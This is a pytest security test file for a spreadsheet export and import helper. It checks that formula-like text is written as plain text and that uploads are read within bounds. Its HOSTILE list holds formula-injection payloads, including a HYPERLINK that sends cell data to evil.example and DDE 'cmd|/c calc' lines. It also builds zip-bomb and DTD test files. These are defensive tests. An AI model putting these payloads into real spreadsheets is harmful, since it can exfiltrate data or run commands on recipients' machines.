"""The one xlsx writer and reader (community_admin/core/xlsx.py): text is never written as a formula, and an
upload is read within bounds whatever it declares. The exporters' own files: tests/security/test_formula_injection.py."""

import ast
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from openpyxl import load_workbook
from openpyxl.styles import Font

from community_admin.core import uploads, xlsx
from tests.workbooks import crafted, row, sheet_xml, text_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&J2,"点此")',
    "=cmd|'/c calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["张三", "3号楼2单元501", "#N/A", "=", ""]  # "#N/A" would be an error value, "=" alone stays text


def read_back(workbook) -> list:
    out = io.BytesIO()
    workbook.save(out)
    out.seek(0)
    return list(
        load_workbook(out).worksheets[-1].iter_rows()
    )  # a normal workbook's default sheet comes first


def assert_text(cells, texts) -> None:
    for c, text in zip(cells[: len(texts)], texts, strict=True):
        assert c.data_type == "s" and c.value == text, (c.coordinate, c.value, c.data_type)
        assert c.quotePrefix == (text[:1] in xlsx.FORMULA_TRIGGERS)


@pytest.mark.parametrize("write_only", [True, False])
def test_text_that_starts_like_a_formula_is_written_as_the_text_typed(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("名单")
    sheet.append(HOSTILE)
    sheet.append([xlsx.cell(sheet, text, font=Font(bold=True)) for text in HOSTILE])  # styled cells too
    sheet.append(PLAIN[:-1])
    rows = read_back(workbook)
    assert_text(rows[0], HOSTILE)
    assert_text(rows[1], HOSTILE)
    assert rows[1][0].font.bold
    assert_text(rows[2], PLAIN[:-1])


@pytest.mark.parametrize("write_only", [True, False])
def test_numbers_dates_and_booleans_stay_what_they_are(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("数")
    sheet.append([-5, -2.5, Decimal("-800.50"), date(2025, 3, 1), True, None, 0])
    cells = read_back(workbook)[0]
    values = [c.value for c in cells]
    assert values[:3] == [-5, -2.5, -800.5] and values[3].date() == date(2025, 3, 1)
    assert values[4] is True and values[5] is None and values[6] == 0
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"] and not any(c.quotePrefix for c in cells)


def test_a_normal_workbook_escapes_cells_however_they_were_set():
    workbook = xlsx.new_workbook(write_only=False)
    sheet = workbook.active
    sheet["A1"] = "=1+1"
    sheet.cell(1, 2, value="=cmd|'/c calc'!A0")
    sheet.append(["@SUM(A1)"])
    rows = read_back(workbook)
    assert_text([rows[0][0], rows[0][1], rows[1][0]], ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)"])


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("x")
    sheet.append(["张\x07三", "=a\x00b"])
    assert_text(read_back(workbook)[0], ["张三", "=ab"])


# Every module that writes a workbook goes through the helper -------------------------------------------

ROOT = Path(settings.BASE_DIR)
HELPER = "community_admin/core/xlsx.py"
# Benchmarks measure openpyxl itself (bench/ledgers.py's "floor") and build synthetic import files.
OUTSIDE_THE_APP = ("bench/", "tests/", ".venv/", "var/", "node_modules/")
# What a module may take from openpyxl besides the helper: formatting, nothing that makes or reads cells.
FORMATTING = ("openpyxl.styles", "openpyxl.utils")


def _sources():
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if not rel.startswith(OUTSIDE_THE_APP):
            yield rel, ast.parse(path.read_text(encoding="utf-8"), filename=rel)


def _openpyxl_imports(tree) -> list[tuple[str, list[str]]]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [(a.name, []) for a in node.names if a.name.split(".")[0] == "openpyxl"]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl":
            found.append((node.module, [a.name for a in node.names]))
    return found


def _uses_helper(tree) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "community_admin.core"
            and any(a.name == "xlsx" for a in node.names)
        ):
            return True
        if isinstance(node, ast.ImportFrom | ast.Import):
            names = [node.module] if isinstance(node, ast.ImportFrom) else [a.name for a in node.names]
            if "community_admin.core.xlsx" in names:
                return True
    return False


def bypasses(rel: str, tree) -> list[str]:
    """What in one module writes or reads a workbook other than through the helper."""
    found = []
    imports = _openpyxl_imports(tree)
    for module, names in imports:
        if not module.startswith(FORMATTING):
            found.append(f"{rel}: {'from ' + module + ' import ' + ', '.join(names) if names else module}")
    if imports and not _uses_helper(tree):
        found.append(f"{rel}: formats cells without {HELPER}")
    for node in ast.walk(tree):  # openpyxl.Workbook(...) by attribute, or a Workbook(...) of any origin
        func = getattr(node, "func", None)
        name = getattr(func, "id", None) or getattr(func, "attr", None)
        if isinstance(node, ast.Call) and name in ("Workbook", "WriteOnlyCell", "load_workbook"):
            found.append(f"{rel}:{node.lineno}: {name}(...)")
    return found


def test_no_module_writes_or_reads_a_workbook_but_through_the_helper():
    """A new exporter that builds its own `Workbook(...)` writes formulas again, an import that calls
    `load_workbook` reads unbounded: this walks every module of the project and fails on either."""
    found, writers = [], []
    for rel, tree in _sources():
        if rel == HELPER:
            continue
        found += bypasses(rel, tree)
        if _uses_helper(tree):
            writers.append(rel)
    assert found == [], "\n".join(found)
    # The walk sees every exporter and both imports (else it proves nothing).
    for module in (
        "community_admin/residents/exporters.py",
        "community_admin/residents/importers.py",
        "community_admin/ledgers/exporters.py",
        "community_admin/ledgers/importers.py",
        "community_admin/staff/exporters.py",
        "community_admin/funding/exporters.py",
        "community_admin/dashboards/exporters.py",
        "community_admin/dashboards/reports/documents.py",
    ):
        assert module in writers


@pytest.mark.parametrize(
    "source",
    [
        "from openpyxl import Workbook\nWorkbook(write_only=True)\n",
        "import openpyxl\nfrom community_admin.core import xlsx\nopenpyxl.Workbook()\n",
        "from openpyxl.cell import WriteOnlyCell\nfrom community_admin.core import xlsx\n",
        "from openpyxl.styles import Font\n",  # styles cells, so it writes: without the helper
        "from openpyxl import load_workbook\nload_workbook('x.xlsx')\n",
    ],
)
def test_the_walk_catches_a_bypass(source):
    assert bypasses("new/exporters.py", ast.parse(source))


# Reading within bounds -------------------------------------------------------------------------------


def open_rows(upload, **kwargs):
    with xlsx.open_import(upload) as sheet:
        rows = list(sheet.rows(**kwargs))
    return sheet, rows


def test_rows_are_read_to_the_width_asked_whatever_the_sheet_declares():
    upload = crafted(
        sheet_xml(row(1, ["a", "b"]) + f'<row r="3">{text_cell("XFD3", "far")}</row>', dimension="A1:XFD3")
    )
    sheet, rows = open_rows(upload, start=1, limit=10, width=2)
    assert rows == [(1, ("a", "b")), (2, (None, None)), (3, (None, None))]  # the gap is a row read
    assert (sheet.rows_read, sheet.cells_read) == (3, 6)


def test_a_row_beyond_the_limit_is_refused_empty_rows_and_gaps_included():
    upload = crafted(sheet_xml(row(1, ["h"]) + '<row r="2"/><row r="3"/>' + row(1_048_576, ["x"])))
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(upload, start=2, limit=100, width=1)
    assert refused.value.message == xlsx.ERR_TOO_MANY_ROWS.format(limit=100)
    assert refused.value.row == 102


def test_the_read_stops_after_the_time_allowed(monkeypatch, settings):
    settings.IMPORT_MAX_SECONDS = 5
    clock = iter(range(0, 10_000))  # one second per look at the clock
    monkeypatch.setattr(xlsx, "monotonic", lambda: next(clock))
    upload = crafted(sheet_xml("".join(row(n, [f"r{n}"]) for n in range(1, 50))))
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(upload, start=1, limit=1000, width=1)
    assert refused.value.message == xlsx.ERR_TOO_SLOW.format(seconds="5")


def test_a_row_wider_than_excel_allows_is_refused_before_openpyxl_parses_it():
    # A million empty cells in one row pack into a few KB and cost openpyxl 14 s and 570 MB to parse.
    cells = '<c r="A1"/>' * (xlsx.EXCEL_MAX_COLUMNS + 1)
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(crafted(sheet_xml(f'<row r="1">{cells}</row>')), start=1, limit=10, width=1)
    assert refused.value.message == xlsx.ERR_TOO_WIDE


def test_a_dtd_is_refused():
    doctype = "<!DOCTYPE worksheet [<!ENTITY c \"<c r='A1'/>\">]>"
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(crafted(sheet_xml(row(1, ["a"]), prolog=doctype)), start=1, limit=10, width=1)
    assert refused.value.message.startswith("结构异常（含有 DTD 声明）")


def test_an_archive_unpacking_beyond_the_limit_is_refused_from_its_directory(settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = crafted(sheet_xml(row(1, ["a"]) + "<!-- padding -->" + " " * (2 * 1024 * 1024)))
    assert len(bomb.getvalue()) < 20_000  # two megabytes of spaces pack into a few kilobytes
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(bomb, start=1, limit=10, width=1)
    assert refused.value.message == xlsx.ERR_UNPACKED.format(mb=1)
    # The forms' upload check says so on the field, before the import starts.
    bomb.seek(0)
    with pytest.raises(ValidationError) as invalid:
        uploads.check_workbook(bomb)
    assert invalid.value.messages == ["文件：" + xlsx.ERR_UNPACKED.format(mb=1)]


def test_a_part_read_whole_is_bounded_on_its_own():
    base = crafted(sheet_xml(row(1, ["a"])))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/styles.xml":
                data = data.replace(
                    b"</styleSheet>", b" " * (xlsx.WHOLE_PART_MAX_BYTES + 1) + b"</styleSheet>"
                )
            dst.writestr(info.filename, data)
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        xlsx.check_archive(out)
    assert refused.value.message.startswith("解压后超过")


def test_a_file_that_is_not_a_workbook_is_unreadable():
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(io.BytesIO(b"PK\x03\x04 not really"), start=1, limit=1, width=1)
    assert refused.value.message == xlsx.ERR_UNREADABLE


def test_sheet_titles_are_ones_excel_takes():
    workbook = xlsx.new_workbook()
    sheet = workbook.create_sheet("A1 甲/乙社区居委会[东区]:*?\\很长很长很长很长很长很长很长")
    assert sheet.title == "A1 甲_乙社区居委会_东区_____很长很长很长很长很长很长"
    assert len(sheet.title) == xlsx.SHEET_TITLE_MAX
    assert xlsx.sheet_title("'引号'") == "引号" and xlsx.sheet_title("") is None


def test_a_corrupt_part_is_unreadable_not_an_error_page():
    out = io.BytesIO()
    with zipfile.ZipFile(crafted(sheet_xml(row(1, ["a"])))) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():  # stored, so a byte of the sheet can be changed in place
            dst.writestr(info.filename, src.read(info.filename))
    broken = io.BytesIO(out.getvalue().replace(b"<sheetData>", b"<sheetDatX>", 1))  # its CRC no longer holds
    with pytest.raises(xlsx.WorkbookRefused) as refused:
        open_rows(broken, start=1, limit=1, width=1)
    assert refused.value.message == xlsx.ERR_UNREADABLE
